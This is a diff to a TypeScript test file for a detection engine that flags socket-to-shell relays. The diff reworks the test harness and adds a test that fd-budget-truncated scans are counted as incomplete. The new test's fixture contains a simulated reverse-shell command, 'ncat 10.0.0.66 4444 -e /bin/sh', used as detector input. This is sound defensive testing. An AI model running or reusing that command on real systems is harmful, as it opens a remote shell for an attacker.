@@ -5,10 +5,11 @@
  */
 import { describe, expect, it } from "vitest";
 import {
-  Engine, createRelay001Rule, createTrc101Rule, type EngineLogger, type ExistingTcpSocket, type Finding, type Holding, type HoldingsSource,
+  Engine, ProcessTable, createRelay001Rule, createTrc101Rule, type EngineLogger, type ExistingTcpSocket, type Finding, type Holding,
   type OutboundEvent, type SensorEvent, type StdioFd, type TaskContext,
 } from "sockeye";
 import { BASE_TIME_MS, dup, exec, exit, fork } from "../engine/fixtures.js";
+import { fakeHost } from "../host/fake-host.js";
 
 const silentLogger: EngineLogger = { warn: () => {} };
 const REMOTE = { address: "10.0.0.66", port: 4444 };
@@ -39,15 +40,14 @@ function start(p: Partial<TaskContext>, filename: string, args: string[], stdio:
 /** A step is an event, or a change to what processes hold (their /proc/<pid>/fd). */
 type Step = SensorEvent | { holds: Record<number, Holding[]> };
 
-function run(steps: Step[], withTrc101 = false, existing: ExistingTcpSocket[] = []) {
-  const world = new Map<number, Holding[]>();
-  const holdings: HoldingsSource = { holdings: (pid) => world.get(pid), existingTcpSockets: () => existing };
-  const rules = [createRelay001Rule({ holdings }), ...(withTrc101 ? [createTrc101Rule({ precise: { contents: undefined } })] : [])];
-  const engine = new Engine({ rules, hostName: "h", now: () => at(0), logger: silentLogger });
+function run(steps: Step[], withTrc101 = false, existing: ExistingTcpSocket[] = [], maxFdsPerLook?: number) {
+  const host = fakeHost({ existing, ...(maxFdsPerLook !== undefined ? { maxFdsPerLook } : {}) });
+  const rules = [createRelay001Rule(), ...(withTrc101 ? [createTrc101Rule()] : [])];
+  const engine = new Engine({ rules, processes: new ProcessTable({ host }), hostName: "h", now: () => at(0), logger: silentLogger });
   const findings: Finding[] = [];
   for (const step of steps) {
     if ("holds" in step) {
-      for (const [pid, held] of Object.entries(step.holds)) world.set(Number(pid), held);
+      for (const [pid, held] of Object.entries(step.holds)) host.world.set(Number(pid), held);
     } else {
       findings.push(...engine.handle(step));
     }
@@ -316,5 +316,21 @@ describe("RELAY-001: sockets that existed as observation began (/proc/net/tcp)",
 
   it("not in the table (accepted or unseen while the sensor ran): no finding", () => {
     expect(run(withRelay(steps(0, 3000))).findings).toEqual([]);
+  });
+
+  it("a look cut short by the host's fd budget is counted in the rule's state, never a silent no", () => {
+    const steps = (relayHolds: Holding[]): Step[] => [
+      ...start(relay, "/usr/bin/ncat", ["ncat", "10.0.0.66", "4444", "-e", "/bin/sh"], [tty(1), tty(1), tty(1)], 1),
+      outbound(relay, SOCK, 2),
+      { holds: { 200: relayHolds, 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write"), h(2, "pts:1")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
+    ];
+    const holds = [h(5, "pipe:11", "write"), h(6, "pipe:12", "read"), h(7, `sock:${SOCK}`)];
+    const within = run(steps(holds), false, [], 3);
+    expect(within.findings).toHaveLength(1);
+    expect(within.stats.ruleState["RELAY-001"]).toMatchObject({ incomplete: 0 });
+    const cut = run(steps(holds), false, [], 2);
+    expect(cut.findings).toEqual([]);
+    expect(cut.stats.ruleState["RELAY-001"]!.incomplete).toBeGreaterThan(0);
   });
 });
